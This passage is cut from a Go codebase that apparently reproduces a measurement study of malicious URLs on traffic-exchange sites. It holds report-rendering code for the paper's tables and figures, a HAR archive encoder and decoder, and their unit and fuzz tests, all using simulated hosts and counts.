				t.Fatalf("bar(%v, %d) = %q: %d filled cells, want %d", tc.frac, width, got, fill, tc.fill)
			}
		})
	}
}
