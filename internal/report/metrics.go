package report

import "repro/internal/obs"

// MetricsReport renders an observability export as the report's METRICS
// section. The section is strictly additive: commands print it after every
// paper table and figure, only when -metrics is passed, so default report
// output stays byte-identical with or without instrumentation. Counter
// values are deterministic for a fixed (seed, scale, config); gauge,
// histogram and stage-timing values are wall-clock measurements and vary
// run to run (see the obs package determinism contract).
func MetricsReport(e *obs.Export) string {
	return "METRICS: PIPELINE OBSERVABILITY\n" + e.Text()
}
