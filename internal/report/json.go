package report

import (
	"encoding/json"
	"io"

	"repro/internal/core"
	"repro/internal/obs"
	"repro/internal/shortener"
	"repro/internal/stats"
)

// JSONReport is the machine-readable form of a full analysis — every
// table and figure as structured data, for downstream tooling and
// plotting.
type JSONReport struct {
	Headline struct {
		Crawled      int     `json:"crawled"`
		Distinct     int     `json:"distinct"`
		Domains      int     `json:"domains"`
		Regular      int     `json:"regular"`
		Malicious    int     `json:"malicious"`
		PctMalicious float64 `json:"pctMalicious"`
	} `json:"headline"`
	Table1 []JSONExchangeRow `json:"table1"`
	Table2 []JSONDomainRow   `json:"table2"`
	Table3 struct {
		Categories []JSONShare `json:"categories"`
		MiscCount  int         `json:"miscCount"`
		MiscShare  float64     `json:"miscShare"`
	} `json:"table3"`
	Table4      []JSONShortRow   `json:"table4"`
	Figure3     []JSONSeries     `json:"figure3"`
	Figure5     []stats.IntBucket `json:"figure5"`
	Figure6     []JSONShare      `json:"figure6"`
	Figure7     []JSONShare      `json:"figure7"`
	CrawlHealth *JSONCrawlHealth `json:"crawlHealth,omitempty"`
	// Metrics carries the observability export when the run was
	// instrumented (-metrics); absent otherwise, keeping default JSON
	// output identical to uninstrumented runs.
	Metrics *obs.Export `json:"metrics,omitempty"`
}

// JSONShortRow aliases the shortener hit statistics into the report schema.
type JSONShortRow = shortener.HitStats

// JSONCrawlHealth is the machine-readable crawl-health section.
type JSONCrawlHealth struct {
	TotalFailed  int                  `json:"totalFailed"`
	TotalRetries int                  `json:"totalRetries"`
	FailRate     float64              `json:"failRate"`
	ErrorKinds   []JSONShare          `json:"errorKinds,omitempty"`
	PerExchange  []JSONExchangeHealth `json:"perExchange"`
}

// JSONExchangeHealth is one exchange's crawl-health row.
type JSONExchangeHealth struct {
	Name      string      `json:"name"`
	Crawled   int         `json:"crawled"`
	Failed    int         `json:"failed"`
	PctFailed float64     `json:"pctFailed"`
	Retries   int         `json:"retries"`
	Kinds     []JSONShare `json:"kinds,omitempty"`
}

// JSONExchangeRow is a Table I row.
type JSONExchangeRow struct {
	Name         string  `json:"name"`
	Kind         string  `json:"kind"`
	Crawled      int     `json:"crawled"`
	Self         int     `json:"self"`
	Popular      int     `json:"popular"`
	Regular      int     `json:"regular"`
	Malicious    int     `json:"malicious"`
	PctMalicious float64 `json:"pctMalicious"`
}

// JSONDomainRow is a Table II row.
type JSONDomainRow struct {
	Name           string  `json:"name"`
	Domains        int     `json:"domains"`
	MalwareDomains int     `json:"malwareDomains"`
	PctMalware     float64 `json:"pctMalware"`
}

// JSONShare is one share breakdown entry (Tables III, Figures 6/7).
type JSONShare struct {
	Key   string  `json:"key"`
	Count int     `json:"count"`
	Share float64 `json:"share"`
}

// JSONSeries is one exchange's Figure 3 curve, downsampled, with bursts.
type JSONSeries struct {
	Exchange string        `json:"exchange"`
	Kind     string        `json:"kind"`
	Points   []stats.Point `json:"points"`
	Bursts   []stats.Burst `json:"bursts"`
}

// BuildJSON assembles the structured report.
func BuildJSON(a *core.Analysis, short []shortener.HitStats) *JSONReport {
	out := &JSONReport{}
	out.Headline.Crawled = a.TotalCrawled
	out.Headline.Distinct = a.TotalDistinct
	out.Headline.Domains = a.TotalDomains
	out.Headline.Regular = a.TotalRegular
	out.Headline.Malicious = a.TotalMalicious
	out.Headline.PctMalicious = a.OverallPctMalicious()

	for _, row := range a.PerExchange {
		out.Table1 = append(out.Table1, JSONExchangeRow{
			Name: row.Name, Kind: row.Kind.String(),
			Crawled: row.Crawled, Self: row.Self, Popular: row.Popular,
			Regular: row.Regular, Malicious: row.Malicious,
			PctMalicious: row.PctMalicious(),
		})
		out.Table2 = append(out.Table2, JSONDomainRow{
			Name: row.Name, Domains: row.Domains,
			MalwareDomains: row.MalwareDomains, PctMalware: row.PctMalwareDomains(),
		})
		s := a.Series[row.Name]
		if s == nil {
			continue
		}
		window := s.Len() / 20
		if window < 1 {
			window = 1
		}
		out.Figure3 = append(out.Figure3, JSONSeries{
			Exchange: row.Name,
			Kind:     row.Kind.String(),
			Points:   s.Downsample(48),
			Bursts:   s.Bursts(window, 3),
		})
	}
	for _, cat := range core.Categories {
		out.Table3.Categories = append(out.Table3.Categories, JSONShare{
			Key:   string(cat),
			Count: a.CategoryCounts.Get(string(cat)),
			Share: a.CategoryCounts.Share(string(cat)),
		})
	}
	out.Table3.MiscCount = a.MiscCount
	out.Table3.MiscShare = stats.Ratio(a.MiscCount, a.TotalMalicious)
	out.Table4 = short
	out.Figure5 = a.RedirectHist.Buckets()
	for _, it := range a.TLDCounts.Items() {
		out.Figure6 = append(out.Figure6, JSONShare{Key: it.Key, Count: it.Count, Share: it.Share})
	}
	for _, it := range a.ContentCategories.Items() {
		out.Figure7 = append(out.Figure7, JSONShare{Key: it.Key, Count: it.Count, Share: it.Share})
	}
	if h := a.Health; h != nil {
		jh := &JSONCrawlHealth{
			TotalFailed:  h.TotalFailed,
			TotalRetries: h.TotalRetries,
			FailRate:     stats.Ratio(h.TotalFailed, a.TotalCrawled),
		}
		for _, it := range h.ErrorKinds.Items() {
			jh.ErrorKinds = append(jh.ErrorKinds, JSONShare{Key: it.Key, Count: it.Count, Share: it.Share})
		}
		for _, row := range h.PerExchange {
			jr := JSONExchangeHealth{
				Name: row.Name, Crawled: row.Crawled, Failed: row.Failed,
				PctFailed: row.PctFailed(), Retries: row.Retries,
			}
			for _, kc := range row.Kinds {
				jr.Kinds = append(jr.Kinds, JSONShare{
					Key: kc.Kind, Count: kc.Count,
					Share: stats.Ratio(kc.Count, row.Failed),
				})
			}
			jh.PerExchange = append(jh.PerExchange, jr)
		}
		out.CrawlHealth = jh
	}
	return out
}

// WriteJSON emits the structured report.
func WriteJSON(w io.Writer, a *core.Analysis, short []shortener.HitStats) error {
	return EncodeJSON(w, BuildJSON(a, short))
}

// EncodeJSON emits an assembled JSONReport, letting callers attach
// optional sections (e.g. Metrics) between BuildJSON and encoding.
func EncodeJSON(w io.Writer, rep *JSONReport) error {
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(rep)
}
