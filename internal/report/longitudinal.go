package report

import (
	"fmt"
	"strings"

	"repro/internal/core"
	"repro/internal/stats"
)

// Longitudinal sections: the time-series view a multi-epoch study adds on
// top of the per-epoch tables. None of these render for a single-epoch
// study, which is what keeps the classic seed-1 output byte-identical.

// EpochHeader banners one epoch's report block in a multi-epoch run.
func EpochHeader(epoch int) string {
	return fmt.Sprintf("=== EPOCH %d ===", epoch)
}

// LongitudinalOverview renders the malice-rate-over-time table: the
// headline ">26% of URLs are malicious" tracked across epochs, alongside
// the churn the rate rides on.
func LongitudinalOverview(r *core.LongitudinalResult) string {
	t := NewTable("Epoch", "Crawled", "Regular", "Malicious", "% Malicious", "Churned Sites")
	for _, e := range r.Epochs {
		t.Row(fmt.Sprintf("%d", e.Epoch), comma(e.Analysis.TotalCrawled),
			comma(e.Analysis.TotalRegular), comma(e.Analysis.TotalMalicious),
			fmt.Sprintf("%.2f%%", e.Analysis.OverallPctMalicious()*100),
			comma(e.ChangedSites))
	}
	return "LONGITUDINAL: MALICE RATE OVER EPOCHS\n" + t.String()
}

// LongitudinalIntel renders the blacklist-lag distribution: how much of
// each epoch's CURRENT malicious population the lagged (and possibly
// decayed) intel layer still covers. With zero lag both columns sit at
// their build-time coverage; churn outrunning a lagged feed pulls them
// down epoch over epoch.
func LongitudinalIntel(r *core.LongitudinalResult) string {
	t := NewTable("Epoch", "Consensus Cover", "Feed Cover", "Population", "% Consensus")
	for _, e := range r.Epochs {
		t.Row(fmt.Sprintf("%d", e.Epoch), comma(e.IntelConsensus), comma(e.IntelFeed),
			comma(e.IntelTotal),
			fmt.Sprintf("%.1f%%", stats.Ratio(e.IntelConsensus, e.IntelTotal)*100))
	}
	return "LONGITUDINAL: BLACKLIST LAG DISTRIBUTION\n" + t.String()
}

// LongitudinalBursts folds each exchange's per-epoch Figure-3 series into
// one cross-epoch series and reports its bursts, with epoch boundaries
// marked so a paid campaign spanning a boundary reads as ONE burst — the
// satellite-2 contract — rather than one per epoch.
func LongitudinalBursts(r *core.LongitudinalResult) string {
	var b strings.Builder
	b.WriteString("LONGITUDINAL: CROSS-EPOCH CAMPAIGN BURSTS\n")
	if len(r.Epochs) == 0 {
		return b.String()
	}
	for _, row := range r.Epochs[0].Analysis.PerExchange {
		s := r.ExchangeSeries(row.Name)
		if s == nil || s.Len() == 0 {
			continue
		}
		boundaries := make([]int, 0, len(r.Epochs))
		off := 0
		for _, e := range r.Epochs[:len(r.Epochs)-1] {
			if seg := e.Analysis.Series[row.Name]; seg != nil {
				off += seg.Len()
			}
			boundaries = append(boundaries, off)
		}
		fmt.Fprintf(&b, "\n%s (%s): %d crawled over %d epochs, %d malicious\n",
			row.Name, row.Kind, s.Len(), len(r.Epochs), s.Final())
		window := s.Len() / (20 * len(r.Epochs))
		if window < 1 {
			window = 1
		}
		bursts := s.Bursts(window, 3)
		if len(bursts) == 0 {
			b.WriteString("  bursts: none (smooth, near-linear growth)\n")
			continue
		}
		for _, burst := range bursts {
			span := ""
			for _, bd := range boundaries {
				if burst.Start < bd && bd < burst.End {
					span = " [spans epoch boundary]"
					break
				}
			}
			fmt.Fprintf(&b, "  burst: URLs %d-%d at %.0f%% malicious%s\n",
				burst.Start, burst.End, burst.Rate*100, span)
		}
	}
	return b.String()
}
