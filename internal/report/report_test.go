package report

import (
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/exchange"
	"repro/internal/shortener"
	"repro/internal/stats"
)

func sampleAnalysis() *core.Analysis {
	a := &core.Analysis{
		CategoryCounts:    stats.NewCounter(),
		TLDCounts:         stats.NewCounter(),
		ContentCategories: stats.NewCounter(),
		RedirectHist:      stats.NewIntHist(),
		Series:            map[string]*stats.Series{},
	}
	a.PerExchange = []core.ExchangeStats{
		{Name: "AutoX", Kind: exchange.AutoSurf, Crawled: 1000, Self: 60, Popular: 110,
			Regular: 830, Malicious: 280, Domains: 240, MalwareDomains: 36},
		{Name: "ManualY", Kind: exchange.ManualSurf, Crawled: 200, Self: 20, Popular: 15,
			Regular: 165, Malicious: 20, Domains: 30, MalwareDomains: 5},
	}
	a.TotalCrawled = 1200
	a.TotalDistinct = 700
	a.TotalDomains = 270
	a.TotalRegular = 995
	a.TotalMalicious = 300
	a.CategoryCounts.AddN(string(core.CatBlacklisted), 75)
	a.CategoryCounts.AddN(string(core.CatJavaScript), 19)
	a.CategoryCounts.AddN(string(core.CatRedirection), 6)
	a.MiscCount = 200
	a.TLDCounts.AddN("com", 210)
	a.TLDCounts.AddN("net", 66)
	a.TLDCounts.AddN("de", 6)
	a.TLDCounts.AddN("org", 3)
	a.TLDCounts.AddN("ru", 15)
	a.ContentCategories.AddN("Business", 176)
	a.ContentCategories.AddN("Advertisement", 65)
	a.ContentCategories.AddN("Entertainment", 26)
	a.ContentCategories.AddN("Information Technology", 26)
	a.ContentCategories.AddN("Others", 7)
	for _, v := range []int{1, 1, 1, 2, 2, 3, 7} {
		a.RedirectHist.Observe(v)
	}
	sAuto := stats.NewSeries()
	for i := 0; i < 500; i++ {
		sAuto.Observe(i%4 == 0)
	}
	a.Series["AutoX"] = sAuto
	sManual := stats.NewSeries()
	for i := 0; i < 300; i++ {
		sManual.Observe(false)
	}
	for i := 0; i < 60; i++ {
		sManual.Observe(true)
	}
	for i := 0; i < 300; i++ {
		sManual.Observe(false)
	}
	a.Series["ManualY"] = sManual
	return a
}

func TestTable1(t *testing.T) {
	out := Table1(sampleAnalysis())
	for _, want := range []string{"TABLE I", "AutoX", "Auto-surf", "1,000", "33.7%", "TOTAL", "30.2%"} {
		if !strings.Contains(out, want) {
			t.Errorf("Table1 missing %q:\n%s", want, out)
		}
	}
}

func TestTable2(t *testing.T) {
	out := Table2(sampleAnalysis())
	for _, want := range []string{"TABLE II", "240", "36", "15.0%", "16.7%"} {
		if !strings.Contains(out, want) {
			t.Errorf("Table2 missing %q:\n%s", want, out)
		}
	}
}

func TestTable3(t *testing.T) {
	out := Table3(sampleAnalysis())
	for _, want := range []string{"TABLE III", "Blacklisted", "75.0%", "Malicious JavaScript", "19.0%", "Miscellaneous", "66.7%"} {
		if !strings.Contains(out, want) {
			t.Errorf("Table3 missing %q:\n%s", want, out)
		}
	}
	// Zero-count categories must still be listed.
	if !strings.Contains(out, string(core.CatFlash)) {
		t.Error("Table3 must list zero-count Flash category")
	}
}

func TestTable4(t *testing.T) {
	rows := []shortener.HitStats{
		{ShortURL: "http://goo.gl.sim/ab", LongURL: "http://x.com/", ShortHits: 3746526,
			LongHits: 3746577, TopCountry: "Brazil", TopReferrer: "torrentcompleto.com"},
	}
	out := Table4(rows)
	for _, want := range []string{"TABLE IV", "goo.gl.sim/ab", "3,746,526", "Brazil"} {
		if !strings.Contains(out, want) {
			t.Errorf("Table4 missing %q:\n%s", want, out)
		}
	}
	if !strings.Contains(Table4(nil), "none observed") {
		t.Error("empty Table4 must say so")
	}
}

func TestFigure2(t *testing.T) {
	out := Figure2(sampleAnalysis())
	for _, want := range []string{"FIGURE 2", "Auto-surf", "Manual-surf", "AutoX", "ManualY", "#"} {
		if !strings.Contains(out, want) {
			t.Errorf("Figure2 missing %q:\n%s", want, out)
		}
	}
}

func TestFigure3BurstAnnotations(t *testing.T) {
	out := Figure3(sampleAnalysis())
	if !strings.Contains(out, "bursts: none") {
		t.Errorf("auto-surf series should report no bursts:\n%s", out)
	}
	if !strings.Contains(out, "paid-campaign signature") {
		t.Errorf("manual-surf burst not annotated:\n%s", out)
	}
}

func TestFigure5(t *testing.T) {
	out := Figure5(sampleAnalysis())
	for _, want := range []string{"FIGURE 5", "1 redirects", "7 redirects"} {
		if !strings.Contains(out, want) {
			t.Errorf("Figure5 missing %q:\n%s", want, out)
		}
	}
}

func TestFigure6And7(t *testing.T) {
	a := sampleAnalysis()
	f6 := Figure6(a)
	if !strings.Contains(f6, "com") || !strings.Contains(f6, "70.0%") {
		t.Errorf("Figure6 content wrong:\n%s", f6)
	}
	if !strings.Contains(f6, "Others") {
		t.Errorf("Figure6 must fold the tail into Others:\n%s", f6)
	}
	f7 := Figure7(a)
	if !strings.Contains(f7, "Business") || !strings.Contains(f7, "58.7%") {
		t.Errorf("Figure7 content wrong:\n%s", f7)
	}
}

func TestHeadline(t *testing.T) {
	out := Headline(sampleAnalysis())
	for _, want := range []string{"1,200", "700", "270", "30.2%"} {
		if !strings.Contains(out, want) {
			t.Errorf("Headline missing %q:\n%s", want, out)
		}
	}
}

func TestTableAlignment(t *testing.T) {
	tbl := NewTable("A", "Value").Row("x", "1").Row("longer-name", "22,222")
	out := tbl.String()
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 4 {
		t.Fatalf("lines = %d:\n%s", len(lines), out)
	}
	// All rows same width.
	w := len(lines[0])
	for _, l := range lines[1:] {
		if len(l) > w+2 {
			t.Fatalf("ragged table:\n%s", out)
		}
	}
}

func TestComma(t *testing.T) {
	cases := map[int]string{
		0: "0", 999: "999", 1000: "1,000", 1003087: "1,003,087", 214527: "214,527",
	}
	for n, want := range cases {
		if got := comma(n); got != want {
			t.Errorf("comma(%d) = %q, want %q", n, got, want)
		}
	}
}

func TestBarClamping(t *testing.T) {
	if got := bar(-0.5, 10); strings.Contains(got, "#") {
		t.Errorf("negative bar = %q", got)
	}
	if got := bar(1.5, 10); strings.Contains(got, ".") {
		t.Errorf("overfull bar = %q", got)
	}
}

func TestWriteJSON(t *testing.T) {
	a := sampleAnalysis()
	var buf strings.Builder
	rows := []shortener.HitStats{{ShortURL: "http://goo.gl.sim/a", LongURL: "http://x/", ShortHits: 5, LongHits: 5, TopCountry: "USA", TopReferrer: "ex.sim"}}
	if err := WriteJSON(&buf, a, rows); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		`"crawled": 1200`, `"pctMalicious"`, `"table1"`, `"table2"`,
		`"miscCount": 200`, `"table4"`, `"figure5"`, `"figure6"`, `"figure7"`,
		`"bursts"`, `"AutoX"`, `goo.gl.sim/a`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("JSON report missing %q", want)
		}
	}
	rep := BuildJSON(a, rows)
	if len(rep.Table1) != 2 || len(rep.Table3.Categories) != 5 {
		t.Fatalf("report shape: table1=%d cats=%d", len(rep.Table1), len(rep.Table3.Categories))
	}
}
