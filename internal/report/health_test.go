package report

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/stats"
)

// degradedAnalysis extends the sample analysis with crawl-health data
// from a faulty crawl.
func degradedAnalysis() *core.Analysis {
	a := sampleAnalysis()
	a.PerExchange[0].Failed = 40
	a.PerExchange[1].Failed = 10
	kinds := stats.NewCounter()
	kinds.AddN("timeout", 30)
	kinds.AddN("conn-reset", 15)
	kinds.AddN("http-5xx", 5)
	a.Health = &core.CrawlHealth{
		PerExchange: []core.ExchangeHealth{
			{Name: "AutoX", Crawled: 1000, Failed: 40, Retries: 120,
				Kinds: []core.KindCount{{Kind: "timeout", Count: 25}, {Kind: "conn-reset", Count: 15}}},
			{Name: "ManualY", Crawled: 200, Failed: 10, Retries: 33,
				Kinds: []core.KindCount{{Kind: "timeout", Count: 5}, {Kind: "http-5xx", Count: 5}}},
		},
		TotalFailed:  50,
		TotalRetries: 153,
		ErrorKinds:   kinds,
	}
	return a
}

// healthyAnalysis carries an all-zero Health block, as a clean crawl does.
func healthyAnalysis() *core.Analysis {
	a := sampleAnalysis()
	a.Health = &core.CrawlHealth{
		PerExchange: []core.ExchangeHealth{
			{Name: "AutoX", Crawled: 1000},
			{Name: "ManualY", Crawled: 200},
		},
		ErrorKinds: stats.NewCounter(),
	}
	return a
}

func TestCrawlHealthReportDegraded(t *testing.T) {
	out := CrawlHealthReport(degradedAnalysis())
	for _, want := range []string{
		"CRAWL HEALTH", "AutoX", "ManualY", "TOTAL",
		"# Analyzed", "960", // 1000 crawled - 40 failed
		"4.0%",  // AutoX failure rate
		"timeout", "conn-reset", "http-5xx",
		"60.0%", // timeout share of the taxonomy (30/50)
		"153",   // total retries
	} {
		if !strings.Contains(out, want) {
			t.Errorf("degraded health report missing %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "healthy crawl") {
		t.Error("degraded report claims a healthy crawl")
	}
}

func TestCrawlHealthReportHealthy(t *testing.T) {
	out := CrawlHealthReport(healthyAnalysis())
	if !strings.Contains(out, "healthy crawl") {
		t.Errorf("healthy report missing the healthy-crawl line:\n%s", out)
	}
	if strings.Contains(out, "Error taxonomy") {
		t.Error("healthy report renders an error taxonomy")
	}
}

func TestCrawlHealthReportNilHealth(t *testing.T) {
	out := CrawlHealthReport(sampleAnalysis())
	if !strings.Contains(out, "no crawl-health data") {
		t.Errorf("nil-Health report should say no data was recorded:\n%s", out)
	}
}

func TestJSONCrawlHealth(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteJSON(&buf, degradedAnalysis(), nil); err != nil {
		t.Fatal(err)
	}
	var rep JSONReport
	if err := json.Unmarshal(buf.Bytes(), &rep); err != nil {
		t.Fatal(err)
	}
	h := rep.CrawlHealth
	if h == nil {
		t.Fatal("crawlHealth missing from JSON report")
	}
	if h.TotalFailed != 50 || h.TotalRetries != 153 {
		t.Fatalf("totals = %d failed / %d retries, want 50 / 153", h.TotalFailed, h.TotalRetries)
	}
	if len(h.PerExchange) != 2 || h.PerExchange[0].Name != "AutoX" || h.PerExchange[0].Failed != 40 {
		t.Fatalf("perExchange rows wrong: %+v", h.PerExchange)
	}
	if len(h.ErrorKinds) == 0 || h.ErrorKinds[0].Key != "timeout" || h.ErrorKinds[0].Count != 30 {
		t.Fatalf("errorKinds wrong: %+v", h.ErrorKinds)
	}
	if len(h.PerExchange[0].Kinds) != 2 {
		t.Fatalf("per-exchange kinds wrong: %+v", h.PerExchange[0].Kinds)
	}
}

func TestJSONCrawlHealthOmittedWhenNil(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteJSON(&buf, sampleAnalysis(), nil); err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(buf.Bytes(), []byte("crawlHealth")) {
		t.Error("crawlHealth key emitted for an analysis without Health data")
	}
}
