// Package har encodes and decodes HTTP Archive (HAR) 1.2 logs — the
// capture format the study's crawler produced via the NetExport extension.
//
// Each surf session becomes one HAR log; each hop of each fetch becomes one
// entry with request, response, and timing blocks. The analysis pipeline
// can be re-run from persisted HAR files alone, which mirrors how the
// original study's offline analysis worked from its capture archive.
package har

import (
	"encoding/json"
	"fmt"
	"io"
	"time"

	"repro/internal/httpsim"
)

// Log is the top-level HAR structure.
type Log struct {
	Version string  `json:"version"`
	Creator Creator `json:"creator"`
	Pages   []Page  `json:"pages,omitempty"`
	Entries []Entry `json:"entries"`
}

// Creator identifies the capturing tool.
type Creator struct {
	Name    string `json:"name"`
	Version string `json:"version"`
}

// Page is one visited page.
type Page struct {
	StartedDateTime string `json:"startedDateTime"`
	ID              string `json:"id"`
	Title           string `json:"title"`
}

// Entry is one request/response exchange.
type Entry struct {
	Pageref         string   `json:"pageref,omitempty"`
	StartedDateTime string   `json:"startedDateTime"`
	Time            float64  `json:"time"` // total ms
	Request         Request  `json:"request"`
	Response        Response `json:"response"`
	Timings         Timings  `json:"timings"`
}

// Request is the HAR request block.
type Request struct {
	Method      string   `json:"method"`
	URL         string   `json:"url"`
	HTTPVersion string   `json:"httpVersion"`
	Headers     []Header `json:"headers"`
	HeaderSize  int      `json:"headersSize"`
	BodySize    int      `json:"bodySize"`
}

// Response is the HAR response block.
type Response struct {
	Status      int      `json:"status"`
	StatusText  string   `json:"statusText"`
	HTTPVersion string   `json:"httpVersion"`
	Headers     []Header `json:"headers"`
	Content     Content  `json:"content"`
	RedirectURL string   `json:"redirectURL"`
	HeaderSize  int      `json:"headersSize"`
	BodySize    int      `json:"bodySize"`
}

// Header is one HTTP header.
type Header struct {
	Name  string `json:"name"`
	Value string `json:"value"`
}

// Content is the HAR response content block. Text is included so the
// offline analysis (and the anti-cloaking re-scan) can run from the
// archive without refetching.
type Content struct {
	Size     int    `json:"size"`
	MimeType string `json:"mimeType"`
	Text     string `json:"text,omitempty"`
	Encoding string `json:"encoding,omitempty"`
}

// Timings is the HAR timing block (milliseconds; -1 = not applicable).
type Timings struct {
	Blocked float64 `json:"blocked"`
	DNS     float64 `json:"dns"`
	Connect float64 `json:"connect"`
	Send    float64 `json:"send"`
	Wait    float64 `json:"wait"`
	Receive float64 `json:"receive"`
}

// Builder accumulates a HAR log.
type Builder struct {
	log     Log
	pageSeq int
}

// NewBuilder starts a log attributed to the simulated capture stack.
func NewBuilder() *Builder {
	return &Builder{
		log: Log{
			Version: "1.2",
			Creator: Creator{Name: "slums-crawler", Version: "1.0"},
		},
	}
}

// AddPage opens a page and returns its id for entry association.
func (b *Builder) AddPage(title string, start time.Time) string {
	b.pageSeq++
	id := fmt.Sprintf("page_%d", b.pageSeq)
	b.log.Pages = append(b.log.Pages, Page{
		StartedDateTime: start.UTC().Format("2006-01-02T15:04:05.000Z07:00"),
		ID:              id,
		Title:           title,
	})
	return id
}

// AddResult appends one entry per hop of a completed fetch. The synthetic
// latency is split across wait/receive the way browser captures look.
func (b *Builder) AddResult(pageID, userAgent string, start time.Time, res *httpsim.Result) {
	if res == nil {
		return
	}
	at := start
	for i, hop := range res.Chain {
		totalMS := float64(hop.Latency) / float64(time.Millisecond)
		entry := Entry{
			Pageref:         pageID,
			StartedDateTime: at.UTC().Format("2006-01-02T15:04:05.000Z07:00"),
			Time:            totalMS,
			Request: Request{
				Method:      "GET",
				URL:         hop.URL,
				HTTPVersion: "HTTP/1.1",
				Headers: []Header{
					{Name: "User-Agent", Value: userAgent},
				},
				HeaderSize: -1,
				BodySize:   0,
			},
			Response: Response{
				Status:      hop.StatusCode,
				StatusText:  statusText(hop.StatusCode),
				HTTPVersion: "HTTP/1.1",
				Content: Content{
					Size:     hop.BodySize,
					MimeType: hop.ContentType,
				},
				HeaderSize: -1,
				BodySize:   hop.BodySize,
			},
			Timings: Timings{
				Blocked: -1, DNS: -1, Connect: -1,
				Send: 0, Wait: totalMS * 0.8, Receive: totalMS * 0.2,
			},
		}
		// Redirect hops carry their target.
		if i+1 < len(res.Chain) {
			entry.Response.RedirectURL = res.Chain[i+1].URL
		}
		// Final hop carries the body text for offline re-analysis.
		if i == len(res.Chain)-1 && res.Final != nil {
			entry.Response.Content.Text = string(res.Final.Body)
		}
		b.log.Entries = append(b.log.Entries, entry)
		at = at.Add(hop.Latency)
	}
}

// Log returns the built log.
func (b *Builder) Log() *Log { return &b.log }

// Encode writes the log as HAR JSON ({"log": {...}}).
func Encode(w io.Writer, l *Log) error {
	enc := json.NewEncoder(w)
	return enc.Encode(map[string]*Log{"log": l})
}

// Decode reads a HAR JSON document.
func Decode(r io.Reader) (*Log, error) {
	var doc map[string]*Log
	if err := json.NewDecoder(r).Decode(&doc); err != nil {
		return nil, fmt.Errorf("har: decode: %w", err)
	}
	l, ok := doc["log"]
	if !ok || l == nil {
		return nil, fmt.Errorf("har: missing log object")
	}
	if l.Version == "" {
		return nil, fmt.Errorf("har: missing version")
	}
	return l, nil
}

// EntriesForPage returns the entries associated with a page id.
func (l *Log) EntriesForPage(pageID string) []Entry {
	var out []Entry
	for _, e := range l.Entries {
		if e.Pageref == pageID {
			out = append(out, e)
		}
	}
	return out
}

// FinalURLs returns, per page, the URL of the last entry — i.e. the
// landing URL after redirects.
func (l *Log) FinalURLs() map[string]string {
	out := make(map[string]string)
	for _, e := range l.Entries {
		out[e.Pageref] = e.Request.URL
	}
	return out
}

func statusText(code int) string {
	switch code {
	case 200:
		return "OK"
	case 301:
		return "Moved Permanently"
	case 302:
		return "Found"
	case 404:
		return "Not Found"
	case 500:
		return "Internal Server Error"
	default:
		return ""
	}
}
