package har

import (
	"bytes"
	"testing"
	"time"

	"repro/internal/httpsim"
)

// fuzzSeedLog builds a small but representative capture: a two-hop
// redirect chain with a body-carrying final response.
func fuzzSeedLog() []byte {
	b := NewBuilder()
	start := time.Date(2015, 6, 1, 0, 0, 0, 0, time.UTC)
	pid := b.AddPage("http://entry.sim/", start)
	b.AddResult(pid, "Mozilla/5.0 (X11)", start, &httpsim.Result{
		Chain: []httpsim.Hop{
			{URL: "http://entry.sim/", StatusCode: 302, Kind: "http", Latency: 30 * time.Millisecond},
			{URL: "http://land.sim/offer", StatusCode: 200, ContentType: "text/html", BodySize: 14, Latency: 45 * time.Millisecond},
		},
		Final:    &httpsim.Response{StatusCode: 200, ContentType: "text/html", Body: []byte("<html>x</html>")},
		FinalURL: "http://land.sim/offer",
	})
	var buf bytes.Buffer
	if err := Encode(&buf, b.Log()); err != nil {
		panic(err)
	}
	return buf.Bytes()
}

// FuzzDecode drives the HAR decoder over arbitrary bytes. Decode must
// never panic; any log it accepts must survive an encode/decode round
// trip (the slumcrawl -> slumscan offline workflow).
func FuzzDecode(f *testing.F) {
	f.Add(fuzzSeedLog())
	f.Add([]byte(`{"log":{"version":"1.2","creator":{"name":"x","version":"0"}}}`))
	f.Add([]byte(`{"log":{"version":"1.2","entries":[{"pageref":"page_1"}]}}`))
	f.Add([]byte(`{"log":null}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte(``))
	f.Fuzz(func(t *testing.T, data []byte) {
		l, err := Decode(bytes.NewReader(data))
		if err != nil {
			return
		}
		if l.Version == "" {
			t.Fatal("Decode accepted a log without a version")
		}
		var buf bytes.Buffer
		if err := Encode(&buf, l); err != nil {
			t.Fatalf("re-encode of accepted log failed: %v", err)
		}
		if _, err := Decode(&buf); err != nil {
			t.Fatalf("round trip of accepted log failed: %v", err)
		}
		// Accessors must be total on any accepted log.
		l.FinalURLs()
		for _, p := range l.Pages {
			l.EntriesForPage(p.ID)
		}
	})
}
