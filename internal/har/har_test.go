package har

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"repro/internal/httpsim"
)

func sampleResult() *httpsim.Result {
	return &httpsim.Result{
		Chain: []httpsim.Hop{
			{URL: "http://a.example/", StatusCode: 302, Kind: "http", ContentType: "text/html", Latency: 100 * time.Millisecond},
			{URL: "http://b.example/land", StatusCode: 200, ContentType: "text/html", BodySize: 42, Latency: 60 * time.Millisecond},
		},
		Final:    &httpsim.Response{StatusCode: 200, ContentType: "text/html", Body: []byte("<html>page body</html>")},
		FinalURL: "http://b.example/land",
	}
}

func TestBuilderProducesEntriesPerHop(t *testing.T) {
	b := NewBuilder()
	start := time.Date(2015, 6, 1, 12, 0, 0, 0, time.UTC)
	pid := b.AddPage("http://a.example/", start)
	b.AddResult(pid, "Mozilla/5.0", start, sampleResult())
	l := b.Log()

	if len(l.Pages) != 1 || len(l.Entries) != 2 {
		t.Fatalf("pages=%d entries=%d, want 1 and 2", len(l.Pages), len(l.Entries))
	}
	if l.Entries[0].Response.RedirectURL != "http://b.example/land" {
		t.Fatalf("redirectURL = %q", l.Entries[0].Response.RedirectURL)
	}
	if l.Entries[1].Response.Content.Text != "<html>page body</html>" {
		t.Fatalf("final body not archived: %+v", l.Entries[1].Response.Content)
	}
	if l.Entries[0].Response.Content.Text != "" {
